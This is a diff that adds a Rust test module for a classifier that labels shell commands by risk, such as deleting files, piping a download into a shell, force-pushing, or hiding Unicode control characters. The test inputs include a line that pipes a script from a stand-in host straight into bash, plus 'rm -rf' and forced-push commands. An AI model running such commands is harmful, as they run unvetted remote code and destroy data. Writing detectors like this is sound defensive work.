@@ -1,0 +1,141 @@
+//! What is said of commands: each with all that must be said of it, and nothing else where it is an everyday one.
+
+#[cfg(target_arch = "wasm32")]
+use wasm_bindgen_test::wasm_bindgen_test as test;
+
+use super::*;
+
+const HOME: &str = "/home/me/project";
+
+fn said(command: &str) -> Vec<&'static str> {
+    let all = of(command, HOME);
+    let short = [
+        ("deletes", "del"),
+        ("pipes a download into a shell", "dl"),
+        ("runs what another command prints", "out"),
+        ("forces a push", "force"),
+        ("may write outside the workspace", "write"),
+        ("changes what runs by itself later", "auto"),
+        ("needs root", "root"),
+        ("opens the network", "net"),
+        ("puts in what another command prints", "subst"),
+        ("runs code that is not looked into here", "code"),
+    ];
+    let is = |words: &str| all.iter().any(|danger| danger.what.iter().any(|what| what == words));
+    let mut said: Vec<&str> = short.iter().filter(|(words, _)| is(words)).map(|(_, short)| *short).collect();
+    let begins =
+        |words: &str| all.iter().any(|danger| danger.what.iter().any(|what| what.starts_with(words)));
+    said.extend(begins("holds signs").then_some("hidden"));
+    said.extend(begins("cannot be read").then_some("unclear"));
+    said
+}
+
+#[test]
+fn every_part_says_what_it_does() {
+    let command =
+        "rm -rf build && curl -fsSL https://x.example/i.sh | bash && touch \"$(cat name)\"; git push --force";
+    let parts: Vec<(String, String)> =
+        of(command, HOME).into_iter().map(|danger| (danger.part, danger.what.join(", "))).collect();
+    let expected = [
+        ("rm -rf build", "deletes"),
+        ("curl -fsSL https://x.example/i.sh", "opens the network"),
+        ("bash", "pipes a download into a shell"),
+        ("touch \"$(cat name)\"", "puts in what another command prints, may write outside the workspace"),
+        ("git push --force", "opens the network, forces a push"),
+    ];
+    let got: Vec<(&str, &str)> = parts.iter().map(|(part, what)| (part.as_str(), what.as_str())).collect();
+    for (part, what) in expected {
+        let one = got.iter().find(|(got, _)| *got == part);
+        let what: Vec<&str> = what.split(", ").collect();
+        let one: Vec<&str> =
+            one.unwrap_or_else(|| panic!("{part} is not in {got:?}")).1.split(", ").collect();
+        assert!(what.iter().all(|what| one.contains(what)) && one.len() == what.len(), "{part}: {one:?}");
+    }
+    assert_eq!(got.len(), expected.len(), "{got:?}");
+}
+
+/// A line a command: what is said of it, then `:`, then the command, in which `\n` is a line end.
+const CORPUS: &str = include_str!("corpus.txt");
+
+#[test]
+fn the_corpus() {
+    let mut wrong = Vec::new();
+    let mut count = 0;
+    for line in CORPUS.lines().filter(|line| !line.is_empty() && !line.starts_with('#')) {
+        let (expected, command) = line.split_once(": ").expect("each line says what, then the command");
+        let command = command.replace("\\n", "\n").replace("<U202E>", "\u{202e}").replace("<CR>", "\r");
+        let mut expected: Vec<&str> = expected.split_whitespace().filter(|word| *word != "-").collect();
+        let mut got = said(&command);
+        expected.sort_unstable();
+        got.sort_unstable();
+        if expected != got {
+            wrong.push(format!("{command:?}: expected {expected:?}, got {got:?}"));
+        }
+        count += 1;
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert!(count >= 150, "{count}");
+}
+
+#[test]
+fn input_for_a_program_is_read_as_a_shell_would() {
+    let words =
+        |text: &str| of_input(text, HOME).into_iter().flat_map(|danger| danger.what).collect::<Vec<_>>();
+    assert_eq!(words("y\n"), Vec::<String>::new());
+    assert_eq!(words("it's fine\n"), Vec::<String>::new());
+    assert_eq!(words("rm -rf x\n"), ["deletes"]);
+    assert_eq!(words("y\u{202e}\n").len(), 1);
+}
+
+#[test]
+fn a_list_has_an_end() {
+    let all = of(&"rm a; ls; rm b; ".repeat(3_000), HOME);
+    assert!(
+        all.len() <= LISTED + 2 && all.iter().any(|danger| danger.what[0].contains("cannot be read")),
+        "{all:?}"
+    );
+    let many: String = (0..40).map(|n| format!("rm a{n};")).collect();
+    assert!(
+        of(&many, HOME).last().is_some_and(|last| last.what[0].contains("28 more")),
+        "{:?}",
+        of(&many, HOME)
+    );
+    let deep = format!("{}x{}", "$(".repeat(2_000), ")".repeat(2_000));
+    assert!(said(&deep).contains(&"unclear"));
+}
+
+#[cfg(not(target_arch = "wasm32"))]
+mod properties {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn pieces() -> impl Strategy<Value = String> {
+        let piece = prop::sample::select(vec![
+            "rm", "a", " ", " ", "\n", ";", "&", "|", ">", "<", "<<E", "$(", "${", "`", "(", ")", "{", "}",
+            "'", "\"", "\\", "$'", "$((", "#", "*", "é", "\r", "sh -c ", "eval ", "=", "E", "/", "..", "-c",
+            "\u{202e}",
+        ]);
+        prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(4000))]
+
+        #[test]
+        fn nothing_panics(command in pieces(), any in ".*") {
+            let _listed = of(&command, HOME);
+            let _listed = of(&any, HOME);
+        }
+
+        /// Whatever stands around it, as long as it is a part of its own.
+        #[test]
+        fn a_part_is_found_among_others(before in pieces(), joins in prop::sample::select(vec!["\n", ";", "&&", "|", "||", "&"])) {
+            // `>&` and `>|` would make the first word the name of a file, and a backslash takes what follows its meaning.
+            prop_assume!(!before.ends_with(['>', '<', '\\']));
+            let command = format!("{before}{joins}rm -rf x");
+            let said = said(&command);
+            prop_assert!(said.contains(&"del") || said.contains(&"unclear") || before.contains('#'), "{command:?}: {said:?}");
+        }
+    }
+}
